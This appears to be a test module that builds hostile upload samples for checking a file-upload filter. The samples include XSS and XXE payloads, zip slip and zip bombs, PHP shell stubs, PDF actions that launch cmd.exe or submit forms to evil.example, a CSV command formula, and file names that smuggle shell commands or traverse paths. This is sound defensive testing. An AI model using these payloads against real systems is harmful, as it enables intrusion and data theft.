"""Hostile files, generated: name -> (file name, content, what may become of it).

`refused`: never stored. `harmless`: may be stored, and then `checks` says what must not be left in it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

from PIL import Image, PngImagePlugin

from tests.files.conftest import noise, pdf, photo
from tests.files.standin import EICAR

MB = 1024 * 1024
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


@dataclass(frozen=True)
class Hostile:
    what: str
    name: str
    content: bytes
    refused: bool = True
    gone: bytes = b""  # what must not be in what is stored

    def __str__(self) -> str:
        return self.what


def zipped(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def symlink_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def zip_slip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../../../tmp/slipped", b"x")
    return out.getvalue()


def bomb() -> bytes:
    """200 MB that pack to 200 KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros", "w") as inner:
        for _ in range(200):
            inner.write(bytes(MB))
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, depth: int = 1, colour: int = 0, rows: bytes | None = None) -> bytes:
    """A PNG whose header says so; by default with all its pixels, packed."""
    if rows is None:
        channels = {0: 1, 6: 4}[colour]
        packer, line, packed = zlib.compressobj(9), bytes(1 + (width * depth * channels + 7) // 8), b""
        for _ in range(height):
            packed += packer.compress(line)
        packed += packer.flush()
    else:
        packed = rows
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "SecretCamera", 6
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)})
    out = io.BytesIO()
    Image.linear_gradient("L").resize((400, 300)).convert("RGB").save(out, "JPEG", exif=exif)
    return out.getvalue()


def with_text() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", "<script>alert(1)</script>")
    out = io.BytesIO()
    Image.linear_gradient("L").save(out, "PNG", pnginfo=told)
    return out.getvalue()


def text_bomb() -> bytes:
    """A compressed text chunk of 100 MB in a small PNG."""
    made = png(8, 8)
    at = made.index(b"IDAT") - 4
    return made[:at] + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(100 * MB), 9)) + made[at:]


def packed_pdf(inner: bytes, *, words: bytes = b"/Filter /FlateDecode") -> bytes:
    """The objects stand in an object stream, where no search of the file sees them."""
    packed = zlib.compress(inner)
    head = b"<< /Type /ObjStm /N 1 /First 4 " + words + b" /Length %d >>\nstream\n" % len(packed)
    return pdf(head + packed + b"\nendstream")


def lying_jpeg() -> bytes:
    """The header says 60000 x 60000."""
    made = bytearray(photo(64, 64))
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(made)


def act(words: bytes) -> bytes:
    return pdf(b"<< /Type /Catalog /Pages 2 0 R " + words + b" >>")


@cache
def corpus() -> tuple[Hostile, ...]:
    """All of them, made once."""
    return (*markup(), *archives(), *pictures(), *pdfs(), *programs())


def of(area: str) -> list[Hostile]:
    """Those whose name begins so."""
    return [one for one in corpus() if one.what.startswith(area)]


def markup() -> Iterator[Hostile]:
    for ending in ("html", "htm", "svg", "xhtml", "xml", "js", "css", "shtml", "jpg", "png", "pdf", "txt"):
        yield Hostile(f"html as {ending}", f"page.{ending}", HTML)
    for ending in ("jpg", "png", "pdf", "txt"):
        yield Hostile(f"svg as {ending}", f"drawing.{ending}", SVG)
        yield Hostile(f"xxe as {ending}", f"data.{ending}", XXE)
    yield Hostile("html behind a byte order mark", "page.txt", b"\xef\xbb\xbf" + HTML)
    yield Hostile("html in another code", "page.txt", HTML.decode().encode("utf-16"))
    yield Hostile("html behind spaces", "page.txt", b" \n" * 400 + HTML)
    yield Hostile("html behind a gif", "page.jpg", b"GIF89a/*" + HTML + b"*/=1")
    yield Hostile("gif and script", "x.png", b"GIF89a/*\x00\x00*/=1;alert(1)//;")


def archives() -> Iterator[Hostile]:
    macro = zipped(
        **{"[Content_Types].xml": XXE, "word__document.xml": b"<w/>", "word__vbaProject.bin": b"\xd0\xcf"}
    )
    nested = zipped(inner=zipped(inner=zipped(x=b"x")))
    for name, content in {
        "zip": zipped(a=b"a"),
        "docm": macro,
        "docx with macros": macro,
        "nested zip": nested,
        "zip bomb": bomb(),
        "symlink zip": symlink_zip(),
        "zip slip": zip_slip(),
    }.items():
        ending = name if name in ("zip", "docm") else "docx" if "docx" in name else "zip"
        yield Hostile(name, f"file.{ending}", content)
        yield Hostile(f"{name} as pdf", "file.pdf", content)
        yield Hostile(f"{name} as txt", "file.txt", content)
    yield Hostile("pdf and zip", "quote.pdf", pdf() + zipped(a=b"a") + b"\n%%EOF")
    yield Hostile("jar as photo", "photo.jpg", zipped(**{"META-INF__MANIFEST.MF": b"Main-Class: X"}))
    # What comes after a picture is not part of it: it is gone when the picture is drawn anew.
    yield Hostile(
        "jpeg and zip", "photo.jpg", photo() + zipped(a=b"SMUGGLED"), refused=False, gone=b"PK\x03\x04"
    )
    yield Hostile("jpeg and html", "photo.jpg", photo() + HTML, refused=False, gone=b"<script>")
    yield Hostile(
        "png and php", "photo.png", photo(form="PNG") + b"<?php system(1)?>", refused=False, gone=b"<?php"
    )


def pictures() -> Iterator[Hostile]:
    whole = photo()
    yield Hostile("900 megapixels", "big.png", png(30_000, 30_000))
    yield Hostile("900 megapixels said, none there", "big.png", png(30_000, 30_000, rows=b""))
    yield Hostile("long and thin", "thin.png", png(400_000, 20))
    yield Hostile("11 megapixels as png", "big.png", png(4_000, 2_750, depth=8, colour=6))
    yield Hostile("a lying jpeg", "photo.jpg", lying_jpeg())
    yield Hostile("26 megapixels as jpeg", "photo.jpg", photo(6500, 4010))
    yield Hostile("half a jpeg", "photo.jpg", whole[: len(whole) // 2])
    yield Hostile("a jpeg of four bytes", "photo.jpg", whole[:4])
    yield Hostile("a damaged png", "photo.png", photo(form="PNG")[:200] + bytes(400))
    yield Hostile("no size", "photo.png", png(0, 0, rows=b""))
    yield Hostile("a text of 100 MB in a png", "photo.png", text_bomb())
    yield Hostile("bmp", "photo.bmp", photo(form="BMP"))
    yield Hostile("bmp as jpg", "photo.jpg", photo(form="BMP"))
    yield Hostile("webp as jpg", "photo.jpg", photo(form="WEBP"))
    yield Hostile("tiff as jpg", "photo.jpg", photo(form="TIFF"))
    yield Hostile(
        "eps as jpg", "photo.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file"
    )
    yield Hostile("heic", "photo.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic")
    yield Hostile("where it was taken", "photo.jpg", with_gps(), refused=False, gone=b"SecretCamera")
    yield Hostile("exif", "photo.jpg", with_gps(), refused=False, gone=b"Exif")
    yield Hostile("script in a png", "photo.png", with_text(), refused=False, gone=b"<script>")
    yield Hostile("a noisy photo", "photo.jpg", noise(2500, 2000, quality=95), refused=False)


def pdfs() -> Iterator[Hostile]:
    acts = {
        "script": b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "escaped script": b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",
        "all escaped": b"/A << /S /#4a#61#76#61#53#63#72#69#70#74 >>",
        "launch": b"/A << /S /Launch /F (cmd.exe) >>",
        "embedded file": b"/Names << /EmbeddedFiles 3 0 R >>",
        "embedded stream": b"/AF << /Type /EmbeddedFile >>",
        "address when opened": b"/OpenAction << /S /URI /URI (http://evil.example) >>",
        "more actions": b"/AA << /O 4 0 R >>",
        "script by reference": b"/A << /S /X /JS 9 0 R >>",
        "form that sends": b"/A << /S /SubmitForm /F (http://evil.example) >>",
        "another file": b"/A << /S /GoToR /F (\\\\\\\\evil\\\\share) >>",
        "embedded go": b"/A << /S /GoToE >>",
        "flash": b"/Annots [<< /Subtype /RichMedia >>]",
        "xfa": b"/AcroForm << /XFA 5 0 R >>",
        "import": b"/A << /S /ImportData >>",
        "locked": b"/Encrypt 5 0 R",
    }
    for what, words in acts.items():
        yield Hostile(f"pdf: {what}", "quote.pdf", act(words))
    yield Hostile("pdf: packed script", "quote.pdf", packed_pdf(b"3 0 << /S /JavaScript /JS (x) >>"))
    yield Hostile("pdf: packed and escaped", "quote.pdf", packed_pdf(b"3 0 << /S /J#61vaScript >>"))
    yield Hostile(
        "pdf: packed twice",
        "quote.pdf",
        packed_pdf(zlib.compress(b"3 0 << /S /JavaScript >>"), words=b"/Filter [/FlateDecode /FlateDecode]"),
    )
    yield Hostile("pdf: packed otherwise", "quote.pdf", packed_pdf(b"x", words=b"/Filter /LZWDecode"))
    yield Hostile("pdf: packed bomb", "quote.pdf", packed_pdf(bytes(100 * MB)))
    yield Hostile("pdf: cut off", "quote.pdf", pdf()[:30])
    yield Hostile("pdf: behind html", "quote.pdf", HTML + pdf())
    yield Hostile("pdf as photo", "photo.jpg", pdf())
    yield Hostile("photo as pdf", "quote.pdf", photo())


def programs() -> Iterator[Hostile]:
    yield Hostile("eicar as photo", "photo.jpg", EICAR)
    yield Hostile("eicar as pdf", "quote.pdf", EICAR)
    for ending, content in {
        "exe": b"MZ" + bytes(200),
        "sh": b"#!/bin/sh\nid\n",
        "bat": b"@echo off",
        "lnk": b"L\0\0\0",
        "hta": HTML,
        "rtf": b"{\\rtf1 \\object}",
        "xls": b"\xd0\xcf\x11\xe0" + bytes(100),
        "csv": b"=cmd|'/c calc'!A1",
    }.items():
        yield Hostile(ending, f"file.{ending}", content)
        if ending not in ("bat", "csv"):
            yield Hostile(f"{ending} as txt", "file.txt", content)
    yield Hostile("two endings", "photo.jpg.exe", photo())
    yield Hostile("an ending behind a NUL", "evil.php\0.jpg", b"<?php system(1) ?>")
    yield Hostile("no ending", "photo", photo())
    yield Hostile("only an ending", ".jpg", photo())
    yield Hostile("nothing in it", "photo.jpg", b"")
    yield Hostile("one byte", "photo.jpg", b"\xff")
    yield Hostile("11 MB", "photo.jpg", photo() + bytes(11 * MB))
    yield Hostile("bytes as text", "file.txt", bytes(range(256)) * 40)
    yield Hostile("signs that steer a terminal", "file.txt", b"\x1b[2J\x1b]0;x\x07" * 50)


# File names, each with a harmless photo in it.
NAMES = [
    "../../../etc/cron.d/x.jpg",
    "..\\..\\windows\\x.jpg",
    "/etc/passwd.jpg",
    "C:\\boot.jpg",
    "photo\u202egpj.exe.jpg",
    "a\u200bb\u2066c.jpg",
    "x\r\nSet-Cookie: a=b\r\n.jpg",
    'x"; filename="evil.html.jpg',
    "x%0d%0aa.jpg",
    "CON.jpg",
    "com1.jpg",
    "lpt\u00b9.jpg",
    "nul.tar.jpg",
    "x" * 300 + ".jpg",
    "\u4e2d" * 120 + ".jpg",
    "e\u0301" * 90 + ".jpg",
    "<script>alert(1)</script>.jpg",
    "{{ 7*7 }}{% now 'Y' %}.jpg",
    "$(id) `id` ; rm -rf .jpg",
    "   .  .jpg",
    "....jpg",
    "-rf.jpg",
    "\U0001f480.jpg",
    "نص عربي.jpg",
    "~root.jpg",
    "photo.jpg\u0000.html.jpg",
    "desktop.ini.jpg",
    "a/b/c/d.jpg",
    "NHS 943 476 5919.jpg",
]
